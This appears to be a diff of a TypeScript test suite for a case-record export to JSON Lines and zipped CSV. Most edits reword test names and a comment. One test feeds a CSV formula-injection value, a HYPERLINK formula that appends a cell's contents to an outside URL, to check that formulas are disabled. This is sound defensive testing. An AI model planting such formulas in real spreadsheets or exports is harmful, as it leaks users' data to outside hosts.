@@ -21,7 +21,7 @@ onBothDatabases('an export', (db) => {
     refs = (await loadExample(app))!;
   });
 
-  it('holds the whole record as lines, each after what it names', async () => {
+  it('has the whole record as lines, each after the lines it refers to', async () => {
     const lines = (await exported(app, 'record.jsonl'))
       .trim()
       .split('\n')
@@ -32,7 +32,7 @@ onBothDatabases('an export', (db) => {
     expect(body.filter((line) => line.type === 'case').length).toBe(4);
   });
 
-  it('holds the record as tables, each with its dictionary', async () => {
+  it('has the record as tables, each with its data dictionary', async () => {
     const files = await unzip(await exportedBytes(app, 'record.zip'));
     const tables = new Map(
       [...files].filter(([name]) => name.endsWith('.csv')).map(([name, text]) => [name, readCsv(text)]),
@@ -61,7 +61,7 @@ onBothDatabases('an export', (db) => {
     expect(tables.get('cases.csv')!.map((row) => row['case'])).toEqual(['1', '2', '3', '4']);
     const suit = tables.get('proceedings.csv')!.find((row) => row['title']!.includes(' v. '))!;
     expect(suit).toMatchObject({ case: '1', filed: '2016-12 | 2017-01', disputed: 'filed' });
-    // What is only alleged stands in no column, and in a statement with who says so.
+    // What is only alleged is in no column, but in a statement with its attribution.
     const removal = tables.get('orders.csv')!.find((row) => row['order-kind'] === 'removal')!;
     expect([removal['complied'], removal['attributed']]).toEqual(['', 'complied']);
     const alleged = tables
@@ -87,7 +87,7 @@ onBothDatabases('an export', (db) => {
     }
   });
 
-  it('of a search holds what belongs to the cases found, and names the rest as context', async () => {
+  it('of a search has everything that belongs to the cases found, and the items they name as context', async () => {
     const lines = (
       await exported(app, 'record.jsonl', { text: 'blocking of Ratel', kind: ['case'], type: ['blocking'] })
     )
@@ -106,7 +106,7 @@ onBothDatabases('an export', (db) => {
     expect(lines.filter((line) => line.type === 'claim').length).toBeLessThan(20);
   });
 
-  it('takes the formula out of a cell, and leaves it in the lines', async () => {
+  it('disables formulas in cells, and keeps the text in JSON Lines', async () => {
     await run(app, file, monitor, {
       cases: [
         { title: '=HYPERLINK("https://example.org?x="&A1)', summary: '+1, "said" he\nand left', visibility: 'public' },
